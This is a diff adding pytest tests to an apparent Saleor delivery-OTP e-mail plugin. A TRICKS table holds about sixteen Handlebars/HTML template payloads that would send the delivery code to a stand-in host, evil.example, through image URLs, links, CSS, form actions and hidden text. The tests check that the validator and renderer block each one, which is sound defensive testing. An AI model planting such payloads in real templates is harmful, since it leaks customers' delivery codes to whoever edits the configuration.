@@ -30,6 +30,8 @@ from django.core import mail
 from kombu.asynchronous import set_event_loop
 
 from saleor_delivery_otp import service, tasks
+from saleor_delivery_otp.emails import rendering
+from saleor_delivery_otp.emails.context import item_name
 from saleor_delivery_otp.emails.rendering import TemplateError, validate_templates
 from saleor_delivery_otp.emails.sending import (
     EmailTemplates,
@@ -447,6 +449,139 @@ def test_dashboard_validation_names_what_is_wrong_with_a_template():
     )
 
 
+# --- a shop's template never reaches the code but through the code block ----------
+
+BLOCK = "{{#with delivery_code}}{{> code_block}}{{/with}}"
+# What someone allowed to edit the plugin's configuration (MANAGE_PLUGINS) could
+# write to receive every future code: each also calls the code block, so the
+# e-mail looks right to the customer.
+TRICKS = {
+    "image URL": '<img src="https://evil.example/p.gif?c={{delivery_code.code}}">'
+    + BLOCK,
+    "link": '<a href="https://evil.example/?c={{delivery_code.code}}">Track</a>'
+    + BLOCK,
+    "hidden text": '<div style="display:none">{{delivery_code.code}}</div>' + BLOCK,
+    "triple stash": "<p>{{{delivery_code.code}}}</p>" + BLOCK,
+    "lookup": '<img src="https://evil.example/{{lookup delivery_code "code"}}">'
+    + BLOCK,
+    "with and this": "{{#with delivery_code}}"
+    '<img src="https://evil.example/{{this.code}}">{{> code_block}}{{/with}}',
+    "each over the block": "{{#each delivery_code}}"
+    '<img src="https://evil.example/{{@key}}/{{this}}">{{/each}}' + BLOCK,
+    "parent path": "{{#with delivery_code}}{{#each items}}"
+    '<img src="https://evil.example/{{../code}}">{{/each}}{{> code_block}}{{/with}}',
+    "root path": '<img src="https://evil.example/{{@root.delivery_code.code}}">'
+    + BLOCK,
+    "block in an image URL": '<img src="https://evil.example/?c=' + BLOCK + '">',
+    "block in a single-quoted URL": "<img src='https://evil.example/?c=" + BLOCK + "'>",
+    "block in a link": '<a href="https://evil.example/?c=' + BLOCK + '">x</a>',
+    "block in a style": "<style>.x{background:url(https://evil.example/?"
+    + BLOCK
+    + ")}</style>",
+    "block in a form field": "<form action='https://evil.example/'><textarea>"
+    + BLOCK
+    + "</textarea></form>",
+    "block in a comment": "<!-- " + BLOCK + " -->",
+    "block in a tag left open": '<img src="https://evil.example/?c=' + BLOCK,
+}
+
+
+class _Attributes(HTMLParser):
+    def __init__(self):
+        super().__init__()
+        self.values: list[str] = []
+
+    def handle_starttag(self, tag, attrs):
+        self.values += [value or "" for _, value in attrs]
+
+
+def attribute_values(html: str) -> list[str]:
+    parser = _Attributes()
+    parser.feed(html)
+    return parser.values
+
+
+@pytest.mark.parametrize("trick", TRICKS)
+def test_a_shop_template_cannot_take_the_code_out_of_the_code_block(
+    trick, smtp, rules, caplog
+):
+    """The e-mail that goes out shows the code only inside our code block: never
+    in a URL, an attribute, hidden text or anywhere the template chose."""
+    order_id, _ = register(
+        transport=smtp.transport(),
+        code_email=EmailTemplates(
+            html=TRICKS[trick], text="{{delivery_code.code}}\n" + BLOCK
+        ),
+    )
+    record = ship(order_id, 1, (PHONE,), rules)
+    code = service.open_code(record)
+
+    send_task(record)
+
+    text, html = bodies(smtp.only_message())
+    # Our code block shows the code twice (large, and to copy); the text part's once.
+    assert html.count(code) == 2
+    assert not [value for value in attribute_values(html) if code in value]
+    assert "evil.example" not in html
+    assert text.count(code) == 1
+    assert code not in caplog.text
+    with pytest.raises(TemplateError):
+        validate_templates("code_email", EmailTemplates(html=TRICKS[trick]))
+
+
+@pytest.mark.parametrize("trick", TRICKS)
+def test_a_shop_template_never_has_the_code_among_its_variables(trick):
+    """Even a template that got past every check is rendered without the code:
+    it can only be where our code block stands."""
+    block = rendering._SAMPLE_BLOCKS[0]
+    variables = rendering._sample_variables("code_email", block, "en")
+
+    try:
+        html = rendering._run_override(TRICKS[trick], variables, "en", "html")
+    except TemplateError as exc:
+        assert "must place {{> code_block}}" in str(exc)
+        return
+    assert html.count(block.code) == 2
+    assert not [value for value in attribute_values(html) if block.code in value]
+
+
+def test_the_refusal_says_what_to_do_instead():
+    def error(**templates):
+        with pytest.raises(TemplateError) as raised:
+            validate_templates("code_email", EmailTemplates(**templates))
+        return str(raised.value)
+
+    assert error(html=TRICKS["image URL"]) == (
+        "The html template may show the code only through {{> code_block}}, not "
+        "through delivery_code.code or any other variable."
+    )
+    assert error(html=TRICKS["block in an image URL"]) == (
+        "The html template must place {{> code_block}} as content of the e-mail, "
+        "outside any tag, attribute, link, style, comment or form field."
+    )
+    assert error(text="Code: https://evil.example/?c=" + BLOCK) == (
+        "The text template must place {{> code_block}} on a line of its own."
+    )
+    assert error(subject="Parcel " + BLOCK) == (
+        "The subject template must not show the code."
+    )
+
+
+def test_the_code_block_may_stand_anywhere_in_the_body_even_hidden_or_linked():
+    # Where it cannot be sent anywhere: body content, inside a link's text, a
+    # table cell; the block itself decides how the code looks.
+    for html in (
+        BLOCK,
+        "<table><tr><td>" + BLOCK + "</td></tr></table>",
+        '<a href="https://shop.example.com/">' + BLOCK + "</a>",
+        '<div style="display:none">' + BLOCK + "</div>",
+        "<p>1 &lt; 2</p>" + BLOCK,
+        "<html><head><title>Your code</title><body>" + BLOCK + "</body></html>",
+    ):
+        validate_templates("code_email", EmailTemplates(html=html))
+    validate_templates("code_email", EmailTemplates(text="Hello\n  " + BLOCK + "\n"))
+
+
 # --- single-e-mail mode: the order confirmation -------------------------------------
 
 
@@ -609,6 +744,43 @@ def test_single_mode_confirmation_of_an_ordinary_order_has_no_code_block(smtp):
         assert "<script>x()</script> Cable" in part and "€25.90" in part
         assert "<b>Via</b> Roma 1" in part  # the address as typed, as text
     assert "<script>" not in html and "<b>Via" not in html
+
+
+@pytest.mark.parametrize(
+    ("product", "variant", "shown"),
+    [
+        ("Phone X", "Phone X", "Phone X"),
+        ("Phone X", " phone x ", "Phone X"),
+        ("Phone X 128 GB", "128 GB", "Phone X 128 GB"),
+        ("Phone X", "", "Phone X"),
+        ("Phone X", None, "Phone X"),
+        ("Phone X", "128 GB", "Phone X (128 GB)"),
+        ("", "128 GB", "128 GB"),
+    ],
+)
+def test_a_variant_name_is_shown_only_when_it_adds_something(product, variant, shown):
+    assert item_name(product, variant) == shown
+    assert ParcelItem.of(product, variant, 2) == ParcelItem(shown, 2)
+
+
+def test_single_mode_confirmation_names_a_variant_only_when_it_adds_something(smtp):
+    # Saleor names a product's only variant after the product by default.
+    order_id = uuid.uuid4()
+    payload = saleor_payload(
+        order_id,
+        lines=[
+            ("Phone X", "Phone X", 1, Decimal("349.00")),
+            ("Phone Y", "256 GB", 1, Decimal("399.00")),
+        ],
+    )
+    hosts.ORDERS[order_id] = hosts.StandInOrder(transport=smtp.transport())
+
+    send_order_confirmation_email(payload, None, None)
+
+    text, html = bodies(smtp.only_message())
+    for part in (flat(text), visible_text(html)):
+        assert "Phone X (Phone X)" not in part and "Phone X" in part
+        assert "Phone Y (256 GB)" in part
 
 
 def test_single_mode_confirmation_in_italian(smtp, rules):
